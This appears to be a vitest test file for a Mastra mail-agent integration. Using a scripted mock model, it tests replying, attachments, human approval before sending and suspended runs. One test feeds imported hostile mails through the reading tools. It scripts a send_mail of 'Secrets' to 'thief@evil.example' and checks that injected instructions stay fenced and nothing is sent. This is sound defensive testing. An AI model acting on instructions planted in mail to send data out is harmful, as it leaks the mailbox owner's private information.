import { MockLanguageModelV3 } from 'ai/test'
import type { MastraOptions } from 'restante/mastra'
import { expect } from 'vitest'
import { start } from '../cli/support/cli'
import { openReal } from '../mailbox/support/real'
import { escaped, hostileMails } from '../support/hostile-mails'
import { photo, photoFile } from '../support/photo'
import { proves } from '../support/proves'

type Real = Awaited<ReturnType<typeof openReal>>
type Step = string | { tool: string; input: object }

const usage = {
  inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0 },
  outputTokens: { total: 1, text: 1, reasoning: 0 },
}

/** A model that follows a script, one step a call. */
const scripted = (steps: Step[], ids: string) =>
  new MockLanguageModelV3({
    doGenerate: async () => {
      const step = steps.shift() ?? 'The end.'
      const isCall = typeof step === 'object'
      return {
        content: isCall
          ? [
              {
                type: 'tool-call',
                toolCallId: `${ids}-${steps.length}`,
                toolName: step.tool,
                input: JSON.stringify(step.input),
              },
            ]
          : [{ type: 'text', text: step }],
        finishReason: { unified: isCall ? 'tool-calls' : 'stop', raw: undefined },
        usage,
        warnings: [],
      }
    },
  })

/** The prompt of the last call of a model. */
const lastTold = (model: MockLanguageModelV3) => JSON.stringify(model.doGenerateCalls.at(-1)?.prompt.at(-1))

/** Opens a storage for the runs that wait, which outlives a process. */
const openStorage = async () => {
  const { InMemoryStore } = await import('@mastra/core/storage')
  return new InMemoryStore()
}

/** An agent as a process has it: several share a storage. */
const openAgent = async (
  { mailbox }: Real,
  storage: Awaited<ReturnType<typeof openStorage>>,
  steps: Step[],
  options: MastraOptions = {},
) => {
  const { Mastra } = await import('@mastra/core/mastra')
  const { Agent } = await import('@mastra/core/agent')
  const { createMailboxTools } = await import('restante/mastra')
  const model = scripted(steps, 'call')
  const tools = createMailboxTools(mailbox, options)
  const desk = new Agent({
    id: 'desk',
    name: 'Desk',
    instructions: 'Answer the mail.',
    model: model as never,
    tools,
  })
  new Mastra({ agents: { desk }, storage, logger: false })
  return { agent: desk, model, tools }
}

proves('Mastra', 'tools', 'an agent reads a mail and answers it once', async () => {
  await using real = await openReal()
  const message = await real.receive({ subject: 'Bicycle', text: 'Is it blue?' })
  const { handle } = message
  const steps = [
    { tool: 'read_thread', input: { thread: handle } },
    { tool: 'reply', input: { message: handle, text: 'Yes.' } },
    { tool: 'reply', input: { message: handle, text: 'Yes, it is.' } },
    'It is answered.',
  ]
  const { agent, model } = await openAgent(real, await openStorage(), steps, { message })
  const { text } = await agent.generate(await message.toPrompt(), { maxSteps: 5 })
  expect(text).toBe('It is answered.')
  expect(JSON.stringify(model.doGenerateCalls[1]?.prompt.at(-1))).toContain('Is it blue?')
  expect(lastTold(model)).toContain('already_replied')
  expect(await real.sentMail()).toHaveLength(1)
  await expect(message.reply({ text })).rejects.toMatchObject({ code: 'already_replied' })
})

proves('Mastra', 'tools', 'a picture reaches the model', async () => {
  await using real = await openReal()
  const message = await real.receive({ attachments: [photoFile] })
  const steps = [{ tool: 'read_attachment', input: { message: message.handle } }, 'A pear.']
  const { agent, model } = await openAgent(real, await openStorage(), steps, { message })
  await agent.generate('Look.')
  expect(lastTold(model)).toContain('Its picture follows')
  expect(lastTold(model)).toContain(photo.toString('base64'))
  expect(lastTold(model)).toContain('image/png')
})

proves(
  'Mastra',
  'approval',
  'a run waits for a human, in another process too, and sends after a yes only',
  async () => {
    await using real = await openReal()
    const mail = { to: 'new@other.example', subject: 'Hi', text: 'Hello' }
    const send = { tool: 'send_mail', input: mail }
    const storage = await openStorage()
    for (const answer of ['declineToolCallGenerate', 'approveToolCallGenerate'] as const) {
      const asking = await openAgent(real, storage, [send])
      const asked = await asking.agent.generate('Write to new@other.example')
      expect(asked).toMatchObject({ finishReason: 'suspended', suspendPayload: { toolName: 'send_mail' } })
      expect(await real.sentMail()).toHaveLength(0)
      const later = await openAgent(real, storage, ['So it is.'])
      const { text } = await later.agent[answer]({ runId: asked.runId! })
      expect(text).toBe('So it is.')
    }
    expect(await real.sentMail()).toMatchObject([{ to: ['new@other.example'] }])
    expect((await real.mailbox.drafts.list()).items).toEqual([])
    // Whom the owner names is written to at once.
    const again = await openAgent(real, storage, [send, 'Done.'], { recipients: ['other.example'] })
    expect(await again.agent.generate('And again')).toMatchObject({ text: 'Done.' })
    expect(await real.sentMail()).toHaveLength(2)
    // A tool that is run outside an agent, as in a step of a workflow, was not approved.
    const strict = await openAgent(real, storage, [], { approve: 'send' })
    expect(await strict.tools.send_mail.execute?.(mail, {})).toMatchObject({ status: 'waiting_for_approval' })
    expect(await real.sentMail()).toHaveLength(2)
    // The same call, run again with tools that were made anew, sends nothing twice.
    for (let time = 0; time < 2; time += 1) {
      const { tools } = await openAgent(real, storage, [], { recipients: ['other.example'] })
      const context = { agent: { toolCallId: 'another' } }
      expect(await tools.send_mail.execute?.(mail, context)).toMatchObject({ status: 'sent' })
    }
    expect(await real.sentMail()).toHaveLength(3)
  },
)

proves(
  'Mastra',
  'wait',
  'a run is suspended until the reply, and goes on with it in another process',
  async () => {
    await using real = await openReal()
    const first = await real.receive({ subject: 'Bicycle', messageId: '<first@example.com>' })
    const wait = { tool: 'wait_for_reply', input: { message: first.handle } }
    const storage = await openStorage()
    const asking = await openAgent(real, storage, [wait], { suspend: true })
    const suspended = await asking.agent.generate('Wait for the answer')
    expect(suspended).toMatchObject({ finishReason: 'suspended' })
    const { message, token } = (
      suspended as { suspendPayload: { suspendPayload: { message: string; token: string } } }
    ).suspendPayload.suspendPayload
    expect(message).toBe(first.id)
    await real.receive({ subject: 'Re: Bicycle', text: 'It was sold.', inReplyTo: '<first@example.com>' })
    const reply = await real.mailbox.resumeWait(token)
    const later = await openAgent(real, storage, ['Too late.'], { suspend: true })
    const resumed = await later.agent.resumeGenerate({ message: reply.id }, { runId: suspended.runId! })
    expect(resumed.text).toBe('Too late.')
    expect(lastTold(later.model)).toContain('It was sold.')
    expect(lastTold(later.model)).toContain('<<<mail:')
    // What is there already is read at once.
    const at = await openAgent(real, storage, [wait, 'Read.'], { suspend: true })
    expect(await at.agent.generate('Wait for the answer')).toMatchObject({ text: 'Read.' })
    expect(lastTold(at.model)).toContain('It was sold.')
  },
)

proves('Mastra', 'wait', 'a run that waited in vain goes on without a reply', async () => {
  await using real = await openReal()
  const { handle } = await real.receive()
  const storage = await openStorage()
  const wait = { tool: 'wait_for_reply', input: { message: handle } }
  const { agent, model } = await openAgent(real, storage, [wait, 'Pity.'], { suspend: true })
  const { runId } = await agent.generate('Wait for the answer')
  expect(await agent.resumeGenerate({ message: null }, { runId: runId! })).toMatchObject({ text: 'Pity.' })
  expect(lastTold(model)).toContain('Nobody answered')
})

proves(
  'Mastra',
  'tools',
  'instructions in any part of a mail stay between the marks, and reach nobody new',
  async () => {
    await using real = await openReal()
    const mails = []
    for (const [where, mail] of hostileMails)
      mails.push([where, (await real.receive({ text: 'Hello', ...mail })).handle] as const)
    const steps: Step[] = mails.flatMap(([, message]) =>
      ['read_message', 'read_thread', 'read_attachment'].map((tool) => ({
        tool,
        input: tool === 'read_thread' ? { thread: message } : { message },
      })),
    )
    steps.push({ tool: 'search_mail', input: {} }, { tool: 'list_threads', input: {} })
    steps.push({ tool: 'send_mail', input: { to: 'thief@evil.example', subject: 'All', text: 'Secrets' } })
    const count = steps.length
    const options = { flow: 'refuse' } as const
    const { agent, model } = await openAgent(real, await openStorage(), steps, options)
    await agent.generate('Read it all', { maxSteps: count + 1 })
    const reported = model.doGenerateCalls.slice(1).map(({ prompt }) => prompt.at(-1)?.content)
    expect(reported).toHaveLength(count)
    for (const content of reported) {
      const [{ output } = {}] = content as { output?: { value: unknown } }[]
      expect(escaped(String(output?.value))).toEqual([])
    }
    expect(lastTold(model)).toContain('outside_conversation')
    expect(await real.sentMail()).toHaveLength(0)
  },
)

proves('Mastra', 'wait', 'the example runs', async () => {
  const jiti = 'node_modules/jiti/lib/jiti-cli.mjs'
  expect(await start(process.execPath, [jiti, 'examples/mastra.ts']).ended).toEqual({
    code: 0,
    err: '',
    out: 'the run is suspended\nAna comes on Monday.\n',
  })
})
